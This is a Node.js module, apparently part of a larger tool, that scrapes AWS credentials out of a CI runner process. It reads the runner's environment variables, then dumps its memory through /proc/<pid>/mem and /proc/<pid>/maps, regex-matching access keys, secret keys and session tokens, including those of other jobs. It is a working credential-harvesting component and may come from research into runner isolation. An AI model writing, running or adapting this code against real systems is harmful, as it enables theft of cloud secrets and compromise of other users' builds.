import { closeSync, openSync, readFileSync, readSync } from 'node:fs'
import { findRunner } from './find-runner.mjs'

const CREDENTIALS =
  /"accessKeyId\\?":\\?"(\w+)\\?",\\?"secretAccessKey\\?":\\?"([^"\\]+)\\?",\\?"sessionToken\\?":\\?"([^"\\]+)\\?"/g
const OVERLAP = 64 * 1024

/** All credentials that a command can find: those of its runner's environment, and of every job whose message is in its memory. */
export function findCredentials() {
  const { pid, env } = findRunner()
  const found = new Map()
  const add = (accessKeyId, secretAccessKey, sessionToken) =>
    found.set(accessKeyId, { accessKeyId, secretAccessKey, sessionToken })
  add(env.AWS_ACCESS_KEY_ID, env.AWS_SECRET_ACCESS_KEY, env.AWS_SESSION_TOKEN)
  const memory = openSync(`/proc/${pid}/mem`, 'r')
  const chunk = Buffer.alloc(4 * 1024 * 1024)
  for (const line of readFileSync(`/proc/${pid}/maps`, 'utf8').split('\n')) {
    const [, from, to] = /^([0-9a-f]+)-([0-9a-f]+) r/.exec(line) ?? []
    if (from === undefined) continue
    const end = BigInt(`0x${to}`)
    for (let at = BigInt(`0x${from}`); at < end; at += BigInt(chunk.length - OVERLAP)) {
      const length = read(memory, chunk, at, end)
      if (length === 0) break
      if (!chunk.subarray(0, length).includes('accessKeyId')) continue
      for (const [, ...parts] of chunk.toString('latin1', 0, length).matchAll(CREDENTIALS)) add(...parts)
    }
  }
  closeSync(memory)
  return { env, found: [...found.values()] }
}

function read(memory, chunk, at, end) {
  try {
    return readSync(memory, chunk, 0, Math.min(chunk.length, Number(end - at)), at)
  } catch {
    return 0
  }
}
